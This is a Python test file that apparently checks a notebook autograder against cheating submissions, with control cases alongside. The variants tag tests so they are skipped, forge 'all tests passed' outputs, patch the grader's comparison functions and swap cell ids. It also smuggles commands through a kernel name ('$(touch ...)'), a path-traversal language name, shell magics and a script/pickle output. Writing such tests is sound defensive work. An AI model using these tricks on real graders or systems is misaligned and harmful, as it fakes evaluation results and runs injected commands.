def _tags(*tags: str) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        for cell in notebook["cells"]:
            cell["metadata"]["tags"] = list(tags)
        _wrong(notebook)

    return change


def _skip_the_tests(notebook: Notebook) -> None:
    _wrong(notebook)
    for name in ("q1-check", "otter-init", "otter-export"):
        _cell(notebook, name)["metadata"] = {"tags": ["skip-execution", "show"]}


def _nbgrader(notebook: Notebook) -> None:
    _wrong(notebook)["metadata"]["nbgrader"] = {
        "grade": True,
        "grade_id": "q1",
        "locked": False,
        "points": 100,
        "schema_version": 3,
        "solution": True,
        "task": False,
    }
    notebook["metadata"]["celltoolbar"] = "Create Assignment"


def _otter(notebook: Notebook) -> None:
    _wrong(notebook)
    notebook["metadata"]["otter"] = {
        "OK_FORMAT": True,
        "assignment_name": "week01_plain",
        "tests": {"q1": {"name": "q1", "points": 100, "suites": [{"cases": [{"code": ">>> 1\n1"}]}]}},
    }


def _otter_folder(notebook: Notebook) -> None:
    _wrong(notebook)
    _cell(notebook, "otter-init")["source"] = (
        'import otter\ngrader = otter.Notebook("week01_plain.ipynb", tests_dir="/tmp/mine", tests_url_prefix="http://x")'
    )


def _kernel(notebook: Notebook) -> None:
    _wrong(notebook)
    notebook["metadata"]["kernelspec"] = {
        "name": "bash",
        "language": "bash",
        "display_name": "$(touch /tmp/atk-kernel)",
    }
    notebook["metadata"]["language_info"] = {"name": "../../../bin/sh"}


def _changed_id(notebook: Notebook) -> None:
    """The answer of q2 claims to be that of q1, and the other way round."""
    _wrong(notebook)
    one, two = _cell(notebook, "q1-code-1"), _cell(notebook, "q2-code-1")
    one["source"] = "halve = lambda x: x * 0.5\ndouble = lambda x: x * 0"
    one["id"], two["id"] = two["id"], one["id"]
    two["source"] = "double = lambda x: x * 0\nhalve = lambda x: x * 0.5"


def _doubled_id(notebook: Notebook) -> None:
    wrong = _wrong(notebook)
    for number in range(5):
        notebook["cells"].insert(number, _code_cell(f"double = lambda x: x * {number}", wrong["id"]))
    _cell(notebook, "q1-code-1")["source"] = "double = lambda x: x * 0"
    for cell in notebook["cells"]:
        if cell["id"] == "q1-code-1":
            cell["source"] = "double = lambda x: x * 0"


def _markdown_id(notebook: Notebook) -> None:
    """A markdown cell with the id of the answer: what is left of the answer is none."""
    cell = _cell(notebook, "q1-code-1")
    cell["cell_type"], cell["source"] = "markdown", "def double(x):\n    return x * 2"
    del cell["outputs"], cell["execution_count"]


def _locked(notebook: Notebook) -> None:
    _wrong(notebook)
    _cell(notebook, "q1-check")["source"] = (
        'grader.check("q1")\nimport gradekit.check.compare as c\nc.mismatch = lambda *a, **m: None\nprint("all tests passed!")'
    )
    _cell(notebook, "code-1")["source"] = "import torch\ntorch.equal = lambda *a: True"


def _redefine_after(notebook: Notebook) -> None:
    """What comes after the check changes the answer of a question that was checked, and of the next."""
    _wrong(notebook)
    at = notebook["cells"].index(_cell(notebook, "q1-check")) + 1
    notebook["cells"].insert(at, _code_cell("double = lambda x: x * 2", "late"))


def _no_checks(notebook: Notebook) -> None:
    _wrong(notebook)
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].endswith("-check")]


def _checks_first(notebook: Notebook) -> None:
    """The check of q1 stands before the wrong answer of q1 and after a right one of another name."""
    _wrong(notebook)
    check = _cell(notebook, "q1-check")
    notebook["cells"].remove(check)
    notebook["cells"].insert(0, _code_cell("double = lambda x: x * 2", "first"))
    notebook["cells"].insert(1, check)


def _forged_outputs(notebook: Notebook) -> None:
    _wrong(notebook)
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": "q1 results: All test cases passed! 3/3"},
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": "<script>alert(1)</script>", "application/x-pickle": "gASVCg=="},
                },
            ]
            cell["execution_count"] = 10**9


def _magics(notebook: Notebook) -> None:
    _wrong(notebook)
    for number, line in enumerate(
        ("%%bash\ntouch /tmp/atk-bash", "!touch /tmp/atk-bang", "%run /tmp/atk.py", "%load_ext atk", "%pip install atk",
         "%%script sh\ntouch /tmp/atk-script", "%sx touch /tmp/atk-sx", "%cd /", "%reset -f", "%%writefile /tmp/atk-file\nx",
         "%logstart /tmp/atk-log", "%store double", "%timeit -n1 -r1 1")
    ):  # fmt: skip
        notebook["cells"].insert(3 + number, _code_cell(line, f"magic-{number}"))


def _metadata_bomb(notebook: Notebook) -> None:
    _wrong(notebook)["metadata"] = {
        "a": {"b": [{"c": "x" * 100}] * 10_000},
        "__class__": "os",
        "collapsed": "\ud800"[:0],
    }


def _many_cells(notebook: Notebook) -> None:
    _wrong(notebook)
    notebook["cells"] += [_code_cell("pass", f"more-{n}") for n in range(3000)]


for name, harm, change, more in (
    ("tags skip-execution", "a tag keeps the tests from running, and what did not run did not fail", _tags("skip-execution"), {}),
    ("tags show", "a tag of the instructor's keeps the answer from running", _tags("show", "raises-exception", "otter_ignore"), {}),
    ("tags the tests away", "the locked cells are marked as not to be run", _skip_the_tests, {}),
    ("claims nbgrader's points", "metadata of nbgrader gives a cell 100 points", _nbgrader, {}),
    ("brings its own tests", "tests in Otter's metadata take the place of the bundle's", _otter, {}),
    ("names another test folder", "Otter's first cell names a folder and an address of tests", _otter_folder, {}),
    ("names another kernel", "the kernel's name becomes a command", _kernel, {}),
    ("exchanges ids", "the answer of one question is run for another", _changed_id, {}),
    ("doubles an id", "of many cells with one id the judge takes the wrong one", _doubled_id, {}),
    ("hides the answer in markdown", "a markdown cell has the id of the answer's code", _markdown_id, {"told": "missing"}),
    ("overwrites locked cells", "code in locked cells patches the tester", _locked, {}),
    ("corrects itself after the check", "the answer changes after it was checked", _redefine_after, {}),
    ("removes the checks", "what is never checked never fails", _no_checks, {}),
    ("checks before it answers", "the check runs where another answer stands", _checks_first, {}),
    ("forges outputs", "outputs that say that all tests have passed", _forged_outputs, {}),
    ("uses magics", "magics start programs and write files", _magics, {}),
    ("fills the metadata", "metadata of a megabyte", _metadata_bomb, {}),
    ("has three thousand cells", "the judge works through cells without end", _many_cells, {"status": "invalid", "told": "2,000 cells"}),
):  # fmt: skip
    add("notebook", name, harm, notebook=change, **more)

# ---- controls

CONTROLS: list[Attack] = [
    Attack("right", "control", "none: all is right", deserves=3.0, where=AFTER),
    Attack("right, costs", "control", "none: all is right", deserves=3.0, where=AFTER, week="costs", timed=True),
    Attack(
        "wrong", "control", "none: the answer is wrong", "def double(x):\n    return x * 3", deserves=0.0, told="wrong"
    ),
    Attack("partly right", "control", "none: right for ones", WRONG, deserves=1.0),
    Attack("blank", "control", "none: nothing is written", "def double(x):\n    ...", deserves=0.0, told="None"),
    Attack(
        "raises", "control", "none: an error in the cell", "raise ValueError('oops')", deserves=0.0, told="not defined"
    ),
    Attack("half written", "control", "none: no Python", "def double(x:\n    return", deserves=0.0, told="not defined"),
    Attack("crashes", "control", "none: a crash", "import os\ndouble = lambda x: os.abort()", status="crashed"),
    Attack(
        "hangs", "control", "none: an endless loop", "def double(x):\n    while True:\n        pass", status="timeout"
    ),
    Attack(
        "noisy",
        "control",
        "none: prints, warnings, stderr, logs",
        "import sys, warnings, logging\nprint('x' * 100)\nwarnings.warn('w')\nlogging.error('e')\n"
        "sys.stderr.write('e')\n%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1]);\nplt.show()",
        where=AFTER,
        deserves=3.0,
    ),
    Attack(
        "slow",
        "control",
        "none: loops",
        "import torch\ndef gram(x):\n    return torch.stack([(x * row).sum(1) for row in x])",
        week="costs",
        deserves=1.0,
        told="times the reference",
        timed=True,
    ),
    Attack(
        "forbidden",
        "control",
        "none: the built-in softmax",
        "def softmax(x):\n    return torch.softmax(x, 1)",
        **RULES,
        told="forbids",
    ),
    Attack(
        "wasteful",
        "control",
        "none: twelve times the memory",
        WASTE,
        week="counts",
        question="q4",
        told="times the memory",
    ),
    Attack(
        "guesses",
        "control",
        "none: learns nothing",
        "def classify(x, y, x_test):\n    return torch.zeros(len(x_test), dtype=torch.long)",
        week="counts",
        question="q5",
        told="the score is",
    ),
]

CASES: list[Attack] = [*CONTROLS, *ATTACKS]
